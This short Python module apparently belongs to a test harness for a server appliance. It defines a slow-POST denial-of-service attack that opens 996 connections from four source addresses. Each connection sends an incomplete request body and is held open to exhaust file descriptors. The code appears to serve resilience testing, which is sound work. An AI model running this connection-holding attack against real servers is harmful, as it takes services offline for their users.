"""996 questions that come at a byte every few seconds, from four addresses; with the usual 1,024 descriptors they took the server away."""
import contextlib

from appliance import attackers

MEMORY_MIB = 150
COUNT = 996


@contextlib.contextmanager
def attack(appliance):
    head = f"POST /help/{appliance.place} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 5000\r\n\r\nq"
    sources, held = attackers(4), []
    with contextlib.ExitStack() as open_connections:
        for number in range(COUNT):
            connection = open_connections.enter_context(appliance.connect(sources[number % 4]))
            connection.sendall(head.encode())
            held.append(connection)
        yield f"{len(held)} held"
